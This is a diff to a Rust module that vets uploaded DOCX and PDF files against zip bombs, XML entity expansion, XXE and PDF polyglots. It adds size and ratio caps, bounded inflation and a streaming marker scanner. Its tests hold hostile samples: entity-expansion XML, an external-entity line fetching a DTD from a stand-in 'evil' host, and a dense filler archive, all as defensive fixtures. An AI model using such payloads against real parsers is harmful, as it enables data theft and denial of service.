@@ -6,8 +6,18 @@
 //! when its central directory lists nothing but OOXML package parts (no Java classes, scripts,
 //! executables, macro projects or ActiveX) and its `[Content_Types].xml` declares a
 //! WordprocessingML main part; see [`check_package`] and [`content_types_declare_docx`].
+//!
+//! Hostile content is refused too (SPEC §2, security issue 15):
+//! - a PDF carrying a ZIP record or HTML markup anywhere is a polyglot, and XML with a document
+//!   type declaration or an entity is an entity-expansion or XXE vector: [`ContentScan`] looks
+//!   for them in every byte, fed by the hash pass so nothing is read twice;
+//! - a ZIP is judged by the sizes its central directory declares before anything is inflated
+//!   ([`check_declared_sizes`]: at most [`MAX_UNCOMPRESSED_BYTES`] in all, no entry denser than
+//!   [`MAX_COMPRESSION_RATIO`], no overlapping entries), then [`ArchiveInspector`] inflates every
+//!   entry within those declared sizes to scan its XML.
 
 use std::io::{Read, Seek, SeekFrom};
+use std::sync::{Arc, Mutex};
 
 use bytes::Bytes;
 
@@ -28,6 +38,21 @@ pub const MAX_CONTENT_TYPES_BYTES: u64 = 64 * 1024;
 /// Size of a ZIP local file header before its name and extra field.
 pub const LOCAL_HEADER_BYTES: u64 = 30;
 pub const CONTENT_TYPES_PART: &str = "[Content_Types].xml";
+const MIB: u64 = 1024 * 1024;
+/// Most a ZIP may inflate to, all entries together, as declared and as actually read. A DOCX
+/// within the 20 MB vault limit inflates to a few times its size.
+pub const MAX_UNCOMPRESSED_BYTES: u64 = 100 * MIB;
+/// Highest inflated-to-compressed ratio of an entry larger than [`RATIO_CHECKED_ABOVE_BYTES`];
+/// real XML deflates 5–20:1, a bomb's filler about 1000:1.
+pub const MAX_COMPRESSION_RATIO: u64 = 100;
+/// Entries that inflate to at most this are too small for their ratio to matter.
+pub const RATIO_CHECKED_ABOVE_BYTES: u64 = MIB;
+/// Most entries a DOCX may list; a Word document has a few dozen.
+pub const MAX_ZIP_ENTRIES: usize = 1000;
+/// What a local header and a data descriptor may add to an entry's compressed data.
+const LOCAL_OVERHEAD_BYTES: u64 = LOCAL_HEADER_BYTES + 2 * 65_535 + 24;
+/// Bytes inflated per read while scanning an archive entry.
+const INFLATE_CHUNK_BYTES: usize = 64 * 1024;
 
 /// What the head of a file says it is.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -161,6 +186,8 @@ pub fn find_central_directory(tail: &[u8], file_size: u64) -> Option<CentralDire
 pub struct ZipEntry {
     pub name: String,
     pub compressed_size: u64,
+    /// What the entry says it inflates to.
+    pub uncompressed_size: u64,
     pub local_header_offset: u64,
 }
 
@@ -182,6 +209,7 @@ pub fn central_directory_entries(directory: &[u8]) -> Option<Vec<ZipEntry>> {
         entries.push(ZipEntry {
             name: String::from_utf8_lossy(name).into_owned(),
             compressed_size: u64::from(le32(entry, 20)),
+            uncompressed_size: u64::from(le32(entry, 24)),
             local_header_offset: u64::from(le32(entry, 42)),
         });
         at += HEADER + name_len + extra_len + comment_len;
@@ -235,30 +263,126 @@ pub fn content_types_declare_docx(xml: &[u8]) -> bool {
     WORDPROCESSING_MAIN_TYPES.iter().any(|t| declared(t)) && !text.to_ascii_lowercase().contains("macroenabled")
 }
 
-/// Decompresses `[Content_Types].xml` (at most [`MAX_CONTENT_TYPES_BYTES`]) from the parts of
-/// an archive the caller fetched: `ranges` are `(offset, bytes)` of a file of `file_size`
-/// bytes, and must cover the end record, the central directory and the entry's local header
-/// and data. `None` when the archive is unreadable, lists another number of entries than
-/// `expected_entries`, or the part is missing or too big.
-pub fn read_content_types(file_size: u64, ranges: Vec<(u64, Bytes)>, expected_entries: usize) -> Option<Vec<u8>> {
-    let reader = FetchedRanges { size: file_size, position: 0, ranges };
-    let config = zip::read::Config { archive_offset: zip::read::ArchiveOffset::Known(0) };
-    let mut archive = zip::ZipArchive::with_config(config, reader).ok()?;
-    // The crate keys entries by name: a different count means names were listed twice.
-    if archive.len() != expected_entries {
-        return None;
+/// Whether the sizes a central directory declares are sane, judged before anything is inflated:
+/// at most [`MAX_ZIP_ENTRIES`] entries, no ZIP64 size markers, at most
+/// [`MAX_UNCOMPRESSED_BYTES`] in all, and no entry above [`RATIO_CHECKED_ABOVE_BYTES`] denser
+/// than [`MAX_COMPRESSION_RATIO`]:1.
+pub fn check_declared_sizes(entries: &[ZipEntry]) -> bool {
+    const ZIP64_MARKER: u64 = u32::MAX as u64;
+    if entries.len() > MAX_ZIP_ENTRIES {
+        return false;
     }
-    let part = archive.by_name(CONTENT_TYPES_PART).ok()?;
-    let mut xml = Vec::new();
-    part.take(MAX_CONTENT_TYPES_BYTES + 1).read_to_end(&mut xml).ok()?;
-    (xml.len() as u64 <= MAX_CONTENT_TYPES_BYTES).then_some(xml)
+    let mut total: u64 = 0;
+    for entry in entries {
+        if entry.compressed_size == ZIP64_MARKER || entry.uncompressed_size == ZIP64_MARKER {
+            return false;
+        }
+        let dense = entry.uncompressed_size > RATIO_CHECKED_ABOVE_BYTES && entry.uncompressed_size > entry.compressed_size.saturating_mul(MAX_COMPRESSION_RATIO);
+        total = total.saturating_add(entry.uncompressed_size);
+        if dense || total > MAX_UNCOMPRESSED_BYTES {
+            return false;
+        }
+    }
+    true
 }
 
-/// A file known only by some ranges of it: reads elsewhere fail instead of fetching more.
+/// Where each entry's local header and data lie, in archive order: `(index in the central
+/// directory, offset, length)`, each span ending at the next entry or the central directory
+/// (and never longer than the entry can use). `None` when entries overlap, the way the densest
+/// zip bombs reuse one compressed stream for many entries.
+pub fn entry_spans(entries: &[ZipEntry], directory_offset: u64) -> Option<Vec<(usize, u64, u64)>> {
+    let mut order: Vec<usize> = (0..entries.len()).collect();
+    order.sort_by_key(|&index| entries[index].local_header_offset);
+    let mut spans = Vec::with_capacity(order.len());
+    for (position, &index) in order.iter().enumerate() {
+        let entry = &entries[index];
+        let next = order.get(position + 1).map_or(directory_offset, |&next| entries[next].local_header_offset);
+        let needs = entry.local_header_offset.checked_add(LOCAL_HEADER_BYTES + entry.compressed_size)?;
+        if needs > next {
+            return None;
+        }
+        let len = (next - entry.local_header_offset).min(LOCAL_OVERHEAD_BYTES + entry.compressed_size);
+        spans.push((index, entry.local_header_offset, len));
+    }
+    Some(spans)
+}
+
+/// What inflating one archive entry showed.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct InflatedEntry {
+    /// A document type declaration or an entity, in UTF-8 or UTF-16 (see [`ContentScan`]).
+    pub declares_entities: bool,
+    /// The first inflated bytes, up to the `keep` asked for plus one.
+    pub head: Vec<u8>,
+}
+
+/// Inflates the entries of an archive known only by the ranges fetched so far, one entry at a
+/// time: the end record and central directory stay, each entry's bytes replace the previous
+/// one's. Everything inflated counts against [`MAX_UNCOMPRESSED_BYTES`], and no entry is read
+/// past the size it declares, so a lying directory cannot make it inflate more.
+pub struct ArchiveInspector {
+    archive: zip::ZipArchive<FetchedRanges>,
+    window: Arc<Mutex<Option<(u64, Bytes)>>>,
+    inflated: u64,
+}
+
+impl ArchiveInspector {
+    /// Opens the archive from `ranges` (offset, bytes) of a file of `file_size` bytes, which must
+    /// cover the end record and the central directory. `None` when it is unreadable or lists
+    /// another number of entries than `expected_entries` (the crate keys entries by name, so a
+    /// name listed twice changes the count).
+    pub fn open(file_size: u64, ranges: Vec<(u64, Bytes)>, expected_entries: usize) -> Option<Self> {
+        let window = Arc::new(Mutex::new(None));
+        let reader = FetchedRanges { size: file_size, position: 0, ranges, window: window.clone() };
+        let config = zip::read::Config { archive_offset: zip::read::ArchiveOffset::Known(0) };
+        let archive = zip::ZipArchive::with_config(config, reader).ok()?;
+        (archive.len() == expected_entries).then_some(Self { archive, window, inflated: 0 })
+    }
+
+    /// Inflates entry `index` of the central directory, whose local header and data are `span`
+    /// (fetched at `offset`; see [`entry_spans`]), keeping its first `keep` bytes. `None` when
+    /// the entry is unreadable (including a CRC mismatch), inflates past its declared size or
+    /// past what is left of [`MAX_UNCOMPRESSED_BYTES`].
+    pub fn inflate(&mut self, index: usize, offset: u64, span: Bytes, keep: usize) -> Option<InflatedEntry> {
+        *self.window.lock().ok()? = Some((offset, span));
+        let budget = MAX_UNCOMPRESSED_BYTES - self.inflated;
+        let file = self.archive.by_index(index).ok()?;
+        if file.header_start() != offset || file.size() > budget {
+            return None;
+        }
+        let declared = file.size();
+        let mut scan = ContentScan::new(ScanFor::XmlDeclarations);
+        let mut head = Vec::new();
+        let mut chunk = vec![0u8; INFLATE_CHUNK_BYTES];
+        let mut read: u64 = 0;
+        // One byte past the declared size tells a lying entry from an honest one.
+        let mut limited = file.take(declared + 1);
+        loop {
+            let count = limited.read(&mut chunk).ok()?;
+            if count == 0 {
+                break;
+            }
+            read += count as u64;
+            if read > declared {
+                return None;
+            }
+            let bytes = &chunk[..count];
+            let room = (keep + 1).saturating_sub(head.len());
+            head.extend_from_slice(&bytes[..room.min(count)]);
+            scan.feed(bytes);
+        }
+        self.inflated += read;
+        Some(InflatedEntry { declares_entities: scan.finish(), head })
+    }
+}
+
+/// A file known only by some ranges of it (plus the one entry window an [`ArchiveInspector`]
+/// swaps in): reads elsewhere fail instead of fetching more.
 struct FetchedRanges {
     size: u64,
     position: u64,
     ranges: Vec<(u64, Bytes)>,
+    window: Arc<Mutex<Option<(u64, Bytes)>>>,
 }
 
 impl Read for FetchedRanges {
@@ -267,7 +391,9 @@ impl Read for FetchedRanges {
             return Ok(0);
         }
         let position = self.position;
-        let Some((start, bytes)) = self.ranges.iter().find(|(start, bytes)| position >= *start && position < start + bytes.len() as u64) else {
+        let window = self.window.lock().map_err(|_| std::io::Error::other("entry window poisoned"))?.clone();
+        let covers = |(start, bytes): &&(u64, Bytes)| position >= *start && position < start + bytes.len() as u64;
+        let Some((start, bytes)) = window.as_ref().filter(|w| covers(w)).or_else(|| self.ranges.iter().find(covers)) else {
             return Err(std::io::Error::other("read outside the fetched ranges"));
         };
         let from = usize::try_from(position - start).map_err(std::io::Error::other)?;
@@ -290,12 +416,115 @@ impl Seek for FetchedRanges {
     }
 }
 
-/// The length of a local file header with its name and extra field, from its first bytes.
-pub fn local_header_len(header: &[u8]) -> Option<u64> {
-    if header.len() < LOCAL_HEADER_BYTES as usize || header[..4] != [b'P', b'K', 3, 4] {
-        return None;
+/// What a [`ContentScan`] looks for.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum ScanFor {
+    /// In a PDF: a ZIP local file header or end record, or HTML markup (`<html`, `<script`,
+    /// `<body`, `<!doctype`), any letter case: a file that is also an archive or a web page.
+    PdfPolyglot,
+    /// In XML: `<!DOCTYPE` or `<!ENTITY`, any letter case, in UTF-8 or UTF-16 (either byte
+    /// order), which entity expansion ("billion laughs") and external entities (XXE) need.
+    XmlDeclarations,
+}
+
+/// HTML markup that has no business in a PDF; `<!doctype` covers `<!doctype html`.
+const HTML_MARKERS: [&[u8]; 4] = [b"<html", b"<script", b"<body", b"<!doctype"];
+const XML_DECLARATION_MARKERS: [&[u8]; 2] = [b"<!doctype", b"<!entity"];
+/// Longest match looked at from one position (a UTF-16 `<!doctype`), rounded up.
+const SCAN_LOOKAHEAD: usize = 32;
+
+/// Looks for [`ScanFor`] markers in a stream fed chunk by chunk; a marker cut by a chunk
+/// boundary is still found.
+pub struct ContentScan {
+    target: ScanFor,
+    carry: Vec<u8>,
+    found: bool,
+}
+
+impl ContentScan {
+    pub fn new(target: ScanFor) -> Self {
+        Self { target, carry: Vec::new(), found: false }
     }
-    Some(LOCAL_HEADER_BYTES + u64::from(le16(header, 26)) + u64::from(le16(header, 28)))
+
+    pub fn feed(&mut self, chunk: &[u8]) {
+        if self.found {
+            return;
+        }
+        let mut window = std::mem::take(&mut self.carry);
+        window.extend_from_slice(chunk);
+        // Positions with a full lookahead are judged now; the rest wait for the next chunk.
+        let complete = window.len().saturating_sub(SCAN_LOOKAHEAD - 1);
+        self.found = (0..complete).any(|at| self.marker_at(&window, at));
+        window.drain(..complete);
+        self.carry = window;
+    }
+
+    /// Whether a marker was found anywhere in what was fed.
+    pub fn finish(self) -> bool {
+        self.found || (0..self.carry.len()).any(|at| self.marker_at(&self.carry, at))
+    }
+
+    fn marker_at(&self, bytes: &[u8], at: usize) -> bool {
+        let rest = &bytes[at..];
+        match self.target {
+            ScanFor::PdfPolyglot => match rest.first() {
+                Some(b'<') => HTML_MARKERS.iter().any(|marker| starts_with_ignoring_case(rest, marker)),
+                Some(b'P') => is_zip_local_header(rest) || is_zip_end_record(rest),
+                _ => false,
+            },
+            ScanFor::XmlDeclarations => match rest.first() {
+                Some(b'<' | 0) => XML_DECLARATION_MARKERS.iter().any(|marker| {
+                    starts_with_ignoring_case(rest, marker) || utf16_starts_with_ignoring_case(rest, marker, true) || utf16_starts_with_ignoring_case(rest, marker, false)
+                }),
+                _ => false,
+            },
+        }
+    }
+}
+
+fn starts_with_ignoring_case(bytes: &[u8], marker: &[u8]) -> bool {
+    bytes.get(..marker.len()).is_some_and(|start| start.eq_ignore_ascii_case(marker))
+}
+
+fn utf16_starts_with_ignoring_case(bytes: &[u8], marker: &[u8], little_endian: bool) -> bool {
+    let Some(start) = bytes.get(..marker.len() * 2) else { return false };
+    start.chunks_exact(2).zip(marker).all(|(unit, expected)| {
+        let (low, high) = if little_endian { (unit[0], unit[1]) } else { (unit[1], unit[0]) };
+        high == 0 && low.eq_ignore_ascii_case(expected)
+    })
+}
+
+/// A ZIP local file header with a compression method a reader knows: random bytes of a
+/// compressed PDF stream almost never pass both.
+fn is_zip_local_header(bytes: &[u8]) -> bool {
+    const KNOWN_METHODS: [u16; 16] = [0, 1, 2, 3, 4, 5, 6, 8, 9, 12, 14, 19, 93, 95, 97, 98];
+    bytes.len() >= 10 && bytes[..4] == *b"PK\x03\x04" && KNOWN_METHODS.contains(&le16(bytes, 8))
+}
+
+/// A ZIP end-of-central-directory record of a single-disk archive, as every reader needs.
+fn is_zip_end_record(bytes: &[u8]) -> bool {
+    bytes.len() >= 12 && bytes[..4] == *b"PK\x05\x06" && le16(bytes, 4) == 0 && le16(bytes, 6) == 0 && le16(bytes, 8) == le16(bytes, 10)
+}
+
+/// Encodings an XML declaration may name: ASCII-compatible ones, in which the markers
+/// [`ContentScan`] looks for are plain bytes. UTF-7, UTF-16 without a byte-order mark or
+/// EBCDIC would hide them.
+const XML_ENCODINGS: [&str; 8] = ["utf-8", "utf8", "us-ascii", "ascii", "windows-1251", "cp1251", "koi8-r", "iso-8859-1"];
+
+/// Whether the XML declaration at the start of `head` (if any) names an encoding in which the
+/// scan can see markup.
+pub fn xml_encoding_is_scannable(head: &[u8]) -> bool {
+    let text = trim_xml_whitespace(head.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(head));
+    if !text.starts_with(b"<?xml") {
+        return true;
+    }
+    let declaration = text.iter().position(|b| *b == b'>').map_or(text, |end| &text[..end]);
+    let Ok(declaration) = std::str::from_utf8(declaration) else { return false };
+    let Some(after) = declaration.find("encoding").map(|at| &declaration[at + "encoding".len()..]) else { return true };
+    let value = after.trim_start().strip_prefix('=').map(str::trim_start).unwrap_or_default();
+    let Some(quote) = value.chars().next().filter(|c| matches!(c, '"' | '\'')) else { return false };
+    let name = value[1..].split(quote).next().unwrap_or_default().to_ascii_lowercase();
+    XML_ENCODINGS.contains(&name.as_str())
 }
 
 fn le16(bytes: &[u8], at: usize) -> u16 {
@@ -347,24 +576,34 @@ pub(crate) mod tests {
         bytes
     }
 
-    /// What the upload handler does, over an in-memory file: names, then the content types.
-    fn is_docx(bytes: &[u8]) -> bool {
+    /// What the upload handler does, over an in-memory file: names and declared sizes, then
+    /// every entry inflated and scanned, and the content types read.
+    pub(crate) fn is_docx(bytes: &[u8]) -> bool {
         let size = bytes.len() as u64;
         let Some(directory) = find_central_directory(bytes, size) else { return false };
         let listing = &bytes[directory.offset as usize..(directory.offset + directory.size) as usize];
         let Some(entries) = central_directory_entries(listing) else { return false };
         let names: Vec<String> = entries.iter().map(|e| e.name.clone()).collect();
-        if entries.len() != usize::from(directory.entries) || !check_package(&names) {
+        if entries.len() != usize::from(directory.entries) || !check_package(&names) || !check_declared_sizes(&entries) {
             return false;
         }
-        let Some(part) = entries.iter().find(|e| e.name == CONTENT_TYPES_PART) else { return false };
-        let at = part.local_header_offset as usize;
-        let Some(header_len) = local_header_len(&bytes[at..]) else { return false };
-        let end = (at + header_len as usize + part.compressed_size as usize).min(bytes.len());
-        let mut ranges = vec![(at as u64, Bytes::copy_from_slice(&bytes[at..end])), (directory.offset, Bytes::copy_from_slice(listing))];
+        let Some(spans) = entry_spans(&entries, directory.offset) else { return false };
         let tail_start = bytes.len().saturating_sub(ZIP_TAIL_BYTES as usize);
-        ranges.push((tail_start as u64, Bytes::copy_from_slice(&bytes[tail_start..])));
-        read_content_types(size, ranges, names.len()).is_some_and(|xml| content_types_declare_docx(&xml))
+        let ranges = vec![(tail_start as u64, Bytes::copy_from_slice(&bytes[tail_start..])), (directory.offset, Bytes::copy_from_slice(listing))];
+        let Some(mut inspector) = ArchiveInspector::open(size, ranges, names.len()) else { return false };
+        let mut declares_docx = false;
+        for (index, offset, len) in spans {
+            let keep = if entries[index].name == CONTENT_TYPES_PART { MAX_CONTENT_TYPES_BYTES as usize } else { 0 };
+            let span = Bytes::copy_from_slice(&bytes[offset as usize..(offset + len) as usize]);
+            let Some(inflated) = inspector.inflate(index, offset, span, keep) else { return false };
+            if inflated.declares_entities {
+                return false;
+            }
+            if keep > 0 {
+                declares_docx = inflated.head.len() <= keep && content_types_declare_docx(&inflated.head);
+            }
+        }
+        declares_docx
     }
 
     #[test]
@@ -506,5 +745,107 @@ pub(crate) mod tests {
         let at = lying.len() - 22;
         lying[at + 16..at + 20].copy_from_slice(&u32::MAX.to_le_bytes());
         assert_eq!(find_central_directory(&lying, lying.len() as u64), None);
+    }
+
+    fn scan(target: ScanFor, bytes: &[u8], chunk: usize) -> bool {
+        let mut scan = ContentScan::new(target);
+        for part in bytes.chunks(chunk) {
+            scan.feed(part);
+        }
+        scan.finish()
+    }
+
+    #[test]
+    fn pdf_scan_finds_archives_and_markup_anywhere_in_any_case() {
+        let archive = zip(&[("a.txt", b"hello")]);
+        let end_record = &archive[archive.len() - 22..];
+        for hostile in [&archive[..], end_record, b"<html>", b"<SCRIPT src=x>", b"<Body>", b"<!DocType html>", b"<!doctype\nhtml>"] {
+            let mut pdf = b"%PDF-1.7\n".to_vec();
+            pdf.extend_from_slice(hostile);
+            pdf.extend_from_slice(b"\n%%EOF\n");
+            for chunk in [1, 3, 7, 64, pdf.len()] {
+                assert!(scan(ScanFor::PdfPolyglot, &pdf, chunk), "{:?} in chunks of {chunk}", String::from_utf8_lossy(hostile));
+            }
+        }
+        // Lookalikes: a "PK" with an unknown method, a multi-disk end record, ordinary tags.
+        let benign = b"%PDF-1.7\nPK\x03\x04\x14\x00\x00\x00\x77\x77 PK\x05\x06\x01\x00\x00\x00\x01\x00\x01\x00 <b> <htm> <bod> <!-- x --> %%EOF";
+        assert!(!scan(ScanFor::PdfPolyglot, benign, 5));
+        assert!(!scan(ScanFor::PdfPolyglot, b"%PDF-1.7 <scrip", 4), "a marker cut by the end of the file is not there");
+    }
+
+    #[test]
+    fn xml_scan_finds_declarations_in_utf8_and_utf16() {
+        let doctype = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x \"y\">]><r>&x;</r>";
+        let entity_only = "<r><!entity x 'y'></r>";
+        for text in [doctype, entity_only] {
+            let utf16le: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+            let utf16be: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
+            for bytes in [text.as_bytes(), &utf16le, &utf16be] {
+                for chunk in [1, 2, 5, 31, 32, 33, bytes.len()] {
+                    assert!(scan(ScanFor::XmlDeclarations, bytes, chunk), "{text} ({} bytes) in chunks of {chunk}", bytes.len());
+                }
+            }
+        }
+        assert!(!scan(ScanFor::XmlDeclarations, b"<?xml version=\"1.0\"?><r a=\"&lt;!DOCTYPE\"><!-- doc --></r>", 8));
+    }
+
+    #[test]
+    fn xml_declaring_an_encoding_that_hides_markup_is_refused() {
+        for scannable in [&b"<r/>"[..], b"<?xml version=\"1.0\"?><r/>", b"<?xml version='1.0' encoding='UTF-8'?>", b"\xEF\xBB\xBF<?xml version=\"1.0\" encoding = \"windows-1251\"?>"] {
+            assert!(xml_encoding_is_scannable(scannable), "{:?}", String::from_utf8_lossy(scannable));
+        }
+        for hidden in [&b"<?xml version=\"1.0\" encoding=\"UTF-7\"?>"[..], b"<?xml version=\"1.0\" encoding=\"UTF-16\"?>", b"<?xml version=\"1.0\" encoding=\"IBM037\"?>", b"<?xml version=\"1.0\" encoding=utf-8?>"] {
+            assert!(!xml_encoding_is_scannable(hidden), "{:?}", String::from_utf8_lossy(hidden));
+        }
+    }
+
+    fn entry(name: &str, compressed_size: u64, uncompressed_size: u64, local_header_offset: u64) -> ZipEntry {
+        ZipEntry { name: name.to_owned(), compressed_size, uncompressed_size, local_header_offset }
+    }
+
+    #[test]
+    fn declared_sizes_are_capped_in_total_and_in_density() {
+        assert!(check_declared_sizes(&[entry("a", 10 * MIB, 50 * MIB, 0), entry("b", 10 * MIB, 50 * MIB, 0)]), "exactly the cap");
+        assert!(!check_declared_sizes(&[entry("a", 10 * MIB, 50 * MIB, 0), entry("b", 10 * MIB, 50 * MIB + 1, 0)]), "one byte past the cap");
+        assert!(!check_declared_sizes(&[entry("bomb", 1024 * 1024, 1 << 30, 0)]), "a 1 GiB entry");
+        assert!(check_declared_sizes(&[entry("dense but small", 100, RATIO_CHECKED_ABOVE_BYTES, 0)]));
+        assert!(check_declared_sizes(&[entry("100:1", 20 * 1024, 2000 * 1024, 0)]));
+        assert!(!check_declared_sizes(&[entry("101:1", 20 * 1024, 2020 * 1024 + 1, 0)]));
+        assert!(!check_declared_sizes(&[entry("zip64", u64::from(u32::MAX), 10, 0)]));
+        let many: Vec<ZipEntry> = (0..=MAX_ZIP_ENTRIES).map(|i| entry(&i.to_string(), 1, 1, 0)).collect();
+        assert!(!check_declared_sizes(&many));
+    }
+
+    #[test]
+    fn overlapping_entries_are_refused_and_spans_stop_at_the_next_entry() {
+        let entries = [entry("b", 100, 100, 200), entry("a", 100, 100, 0)];
+        assert_eq!(entry_spans(&entries, 400), Some(vec![(1, 0, 200), (0, 200, 200)]));
+        // Both headers point into one compressed stream.
+        assert_eq!(entry_spans(&[entry("a", 1000, 1000, 0), entry("b", 1000, 1000, 40)], 2000), None);
+        assert_eq!(entry_spans(&[entry("a", 1000, 1000, 0)], 500), None, "data running into the central directory");
+    }
+
+    #[test]
+    fn docx_parts_with_entities_or_bomb_sizes_are_not_docx() {
+        let with = |name: &'static str, data: &'static [u8]| zip(&[("[Content_Types].xml", DOCX_TYPES), ("word/document.xml", b"<w:document/>"), (name, data)]);
+        assert!(is_docx(&with("word/styles.xml", b"<w:styles/>")));
+        assert!(!is_docx(&with("word/styles.xml", b"<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY a \"b\">]><w:styles>&a;</w:styles>")));
+        assert!(!is_docx(&with("customXml/item1.xml", b"<!ENTITY % x SYSTEM \"http://evil/x.dtd\">")));
+        assert!(!is_docx(&zip(&[("[Content_Types].xml", br#"<!DOCTYPE Types><Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#), ("word/document.xml", b"<w/>")])));
+
+        // Declared sizes are judged before inflating: 2 MiB of one byte is far denser than 100:1.
+        let filler = vec![b'a'; 2 * MIB as usize];
+        let dense = zip(&[("[Content_Types].xml", DOCX_TYPES), ("word/document.xml", &filler)]);
+        assert!(dense.len() < 64 * 1024, "the archive itself is small");
+        assert!(!is_docx(&dense));
+
+        // A directory that understates an entry: inflating stops one byte past the declared size.
+        let mut lying = with("word/styles.xml", b"<w:styles>a long enough part</w:styles>");
+        let directory = find_central_directory(&lying, lying.len() as u64).expect("directory");
+        let at = directory.offset as usize;
+        let listing = &lying[at..(directory.offset + directory.size) as usize];
+        let styles = listing.windows(15).position(|w| w == b"word/styles.xml").expect("listed") - 46;
+        lying[at + styles + 24..at + styles + 28].copy_from_slice(&4u32.to_le_bytes());
+        assert!(!is_docx(&lying));
     }
 }
